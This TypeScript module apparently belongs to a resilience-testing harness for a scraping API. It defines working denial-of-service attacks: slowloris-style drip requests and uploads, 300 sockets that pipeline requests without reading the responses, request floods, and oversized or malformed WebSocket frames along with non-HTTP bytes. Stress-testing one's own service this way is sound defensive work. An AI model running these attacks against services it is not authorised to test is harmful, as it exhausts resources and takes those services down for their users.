import { connect, type Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { type Attacker, textAt } from './attacker.ts';
import { startBatch } from './jobs.ts';

/** Attacks by connections: those that send slowly, never read, or send what no protocol has. */

const SOCKETS = 300;
const DRIP_MS = 1_000;
/** Requests that a client sends before it would read the first response. */
const PIPELINED = 50;
/** A job that nobody has. */
const ID = '0190a6e0-0000-7000-8000-000000000000';
const UPGRADE = 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n';
const KEY = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

const hostOf = (attacker: Attacker) => `Host: ${new URL(attacker.origin).host}\r\n`;
const headersOf = (attacker: Attacker) => `${hostOf(attacker)}Authorization: Bearer ${attacker.key}\r\n`;

/** Opens connections, each of which begins with one of the texts. */
function open(attacker: Attacker, beginnings: (string | Buffer)[]): Socket[] {
  const { hostname, port } = new URL(attacker.origin);
  return Array.from({ length: SOCKETS }, (_, n) => {
    const socket = connect(
      Number(port),
      hostname,
      () => void socket.write(beginnings[n % beginnings.length]!),
    );
    // The service closes them sooner or later, as it should.
    return socket.on('error', () => undefined);
  });
}

const slow: Attack = {
  name: 'slow',
  aim: 'requests, uploads and WebSockets that never end',
  async run(attacker) {
    const headers = headersOf(attacker);
    const grant = await attacker.call('POST /v2/parse/upload-url', { json: { filename: 'slow.pdf' } });
    const upload = new URL(textAt(grant.body, 'data', 'uploadUrl') || `${attacker.origin}/`).pathname;
    const form = 'Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 9000000\r\n\r\n--b\r\n';
    const sockets = open(attacker, [
      `POST /v2/scrape HTTP/1.1\r\n${headers}X-Slow: `,
      `POST /v2/scrape HTTP/1.1\r\n${headers}Content-Type: application/json\r\nContent-Length: 90000\r\n\r\n{"url":"`,
      `POST /v2/parse HTTP/1.1\r\n${headers}${form}Content-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n`,
      `PUT ${upload} HTTP/1.1\r\nHost: x\r\nContent-Length: 9000000\r\n\r\n`,
      `GET /v2/crawl/${ID} HTTP/1.1\r\n${headers}${UPGRADE}${KEY}\r\n`,
      `GET /v2/crawl/${ID} HTTP/1.1\r\n${headers}${UPGRADE}Sec-WebSocket-Key: `,
    ]);
    for (const socket of sockets) socket.resume();
    do {
      await attacker.rest(DRIP_MS);
      for (const socket of sockets) if (socket.writable) socket.write('x');
    } while (!attacker.isOver);
    for (const socket of sockets) socket.destroy();
  },
};

const readers: Attack = {
  name: 'readers',
  aim: 'clients that request the largest responses again and again and never read them',
  async run(attacker) {
    const { site } = attacker.around;
    const urls = Array.from({ length: 100 }, (_, n) => `${site}/text?${n}`);
    const id = await startBatch(attacker, urls, { formats: ['markdown', 'html', 'rawHtml'] });
    const shot = await attacker.call('POST /v2/scrape', {
      json: { url: `${site}/text`, formats: ['screenshot'] },
    });
    const screenshot = textAt(shot.body, 'data', 'screenshot');
    const file = screenshot ? new URL(screenshot).pathname : '/docs';
    const paths = [`/v2/batch/scrape/${id}`, file, '/openapi.json', '/v2/team/activity?limit=100'];
    const request = (path: string) => `GET ${path} HTTP/1.1\r\n${headersOf(attacker)}\r\n`.repeat(PIPELINED);
    const sockets = open(attacker, paths.map(request));
    for (const socket of sockets) socket.pause();
    do await attacker.rest(DRIP_MS);
    while (!attacker.isOver);
    for (const socket of sockets) socket.destroy();
    await attacker.call('DELETE /v2/batch/scrape/{id}', { path: { id } });
  },
};

const pipelines: Attack = {
  name: 'pipelines',
  aim: 'connections with thousands of requests, none of which waits for its response',
  async run(attacker) {
    const request = `GET /v2/team/activity HTTP/1.1\r\n${headersOf(attacker)}\r\n`.repeat(20 * PIPELINED);
    do {
      const sockets = open(attacker, [request]);
      for (const socket of sockets) socket.resume();
      await attacker.rest(DRIP_MS);
      for (const socket of sockets) socket.destroy();
    } while (!attacker.isOver);
  },
};

/** A frame of a WebSocket with its header only (RFC 6455, 5.2). */
const frame = (first: number, length: bigint) => {
  const header = Buffer.alloc(14);
  header.writeUInt8(first, 0);
  header.writeUInt8(0x80 | 127, 1);
  header.writeBigUInt64BE(length, 2);
  return header;
};

const frames: Attack = {
  name: 'frames',
  aim: 'frames of WebSockets that are huge, endless or wrong, and bytes that are no HTTP',
  async run(attacker) {
    const { body } = await attacker.call('POST /v2/browser', { json: { ttl: 120 } });
    const cdpUrl = textAt(body, 'cdpUrl');
    const session = cdpUrl ? new URL(cdpUrl).pathname : `/v2/crawl/${ID}`;
    const id = await startBatch(attacker, [`${attacker.around.site}/silent`]);
    const upgrades = [`/v2/batch/scrape/${id}`, session].map(
      (path) => `GET ${path} HTTP/1.1\r\n${headersOf(attacker)}${UPGRADE}${KEY}\r\n`,
    );
    const payloads = [
      frame(0x82, 2n ** 62n),
      // A message of empty fragments that never ends.
      Buffer.concat([Buffer.from([0x01, 0x80, 0, 0, 0, 0]), ...repeated([0x00, 0x80, 0, 0, 0, 0], 20_000)]),
      Buffer.concat(repeated([0x89, 0x80, 0, 0, 0, 0], 20_000)),
      Buffer.concat([frame(0x82, 50_000_000n), Buffer.alloc(1_000_000, 'x')]),
      Buffer.alloc(100_000, 0xff),
    ];
    const beginnings = upgrades.flatMap((head) =>
      payloads.map((payload) => Buffer.concat([Buffer.from(head), payload])),
    );
    const wrong = [
      'GET / HTTP/9.9\r\n\r\n',
      `GET /${'a'.repeat(100_000)} HTTP/1.1\r\n${hostOf(attacker)}\r\n`,
      `POST /v2/scrape HTTP/1.1\r\n${headersOf(attacker)}Transfer-Encoding: chunked\r\n\r\n${'1\r\nx\r\n'.repeat(20_000)}`,
      '\x16\x03\x01\x02\x00',
    ];
    do {
      const sockets = open(attacker, [...beginnings, ...wrong]);
      for (const socket of sockets) socket.resume();
      await attacker.rest(DRIP_MS);
      for (const socket of sockets) socket.resetAndDestroy();
    } while (!attacker.isOver);
    await attacker.call('DELETE /v2/browser/{id}', { path: { id: textAt(body, 'id') || 'none' } });
    await attacker.call('DELETE /v2/batch/scrape/{id}', { path: { id } });
  },
};

const repeated = (bytes: number[], times: number) => Array.from({ length: times }, () => Buffer.from(bytes));

export const CONNECTION_ATTACKS: Attack[] = [slow, readers, pipelines, frames];
